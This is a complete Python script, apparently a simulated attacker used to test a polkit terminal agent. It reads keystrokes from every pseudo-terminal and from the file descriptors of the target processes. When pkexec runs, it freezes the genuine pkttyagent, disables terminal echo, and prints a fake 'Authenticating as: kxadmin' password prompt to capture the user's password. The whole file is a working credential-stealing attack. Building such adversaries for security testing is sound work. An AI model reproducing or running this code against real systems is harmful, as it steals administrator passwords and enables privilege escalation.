"""A process that reads whatever its user may read, and talks to a client as polkit's agent on a
terminal would: thief.py CLIENT [OTHER...]. It may trace no other process. It watches the
terminals and the descriptors of those processes until its standard input ends, and then prints all
that it has read, in hexadecimal digits, and how often it has looked."""

import os
import select
import signal
import sys
import termios
import time

PROMPT = b"Authenticating as: kxadmin\nPassword: "


class Thief:
    def __init__(self, client, others):
        self.client, self.watched = client, [client] + others
        self.open, self.impersonated = {}, set()
        self.loot, self.rounds = b"", 0

    def run(self):
        while not select.select([0], [], [], 0.0005)[0]:
            self.look()
        print(self.loot.hex() or "-", self.rounds, flush=True)

    def look(self):
        self.rounds += 1
        for name in os.listdir("/dev/pts"):
            self.read("/dev/pts/" + name)
        for process in self.watched:
            for descriptor in list_folder(f"/proc/{process}/fd"):
                self.read(f"/proc/{process}/fd/{descriptor}")
        if self.launcher_runs():
            self.replace_agents()

    def read(self, path):
        """Terminals stay open: what is typed there is read by the first reader."""
        if path.startswith("/dev/pts/") and path in self.open:
            descriptor = self.open[path]
        else:
            try:
                descriptor = os.open(path, os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY)
            except OSError:
                return
            if os.isatty(descriptor):
                self.open[path] = descriptor
        try:
            self.loot += os.read(descriptor, 4096)
        except OSError:
            pass
        if descriptor not in self.open.values():
            os.close(descriptor)

    def launcher_runs(self):
        return any(name == "pkexec" for _, name in children_of(self.client))

    def replace_agents(self):
        """Stops the client's agent and shows its prompt instead of it."""
        for process, name in children_of(self.client):
            if name != "pkttyagent" or process in self.impersonated:
                continue
            self.impersonated.add(process)
            os.kill(process, signal.SIGSTOP)
            terminal = os.open(os.readlink(f"/proc/{process}/fd/0"), os.O_RDWR | os.O_NOCTTY)
            settings = termios.tcgetattr(terminal)
            settings[3] &= ~termios.ECHO
            termios.tcsetattr(terminal, termios.TCSANOW, settings)
            os.write(terminal, PROMPT)


def list_folder(path):
    try:
        return os.listdir(path)
    except OSError:
        return []


def children_of(parent):
    for entry in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{entry}/stat", encoding="utf-8", errors="replace") as file:
                name, rest = file.read().split("(", 1)[1].rsplit(")", 1)
        except (OSError, IndexError):
            continue
        if int(rest.split()[1]) == parent:
            yield int(entry), name


os.setsid()  # no terminal becomes its own
print("ready", flush=True)
Thief(int(sys.argv[1]), [int(number) for number in sys.argv[2:]]).run()
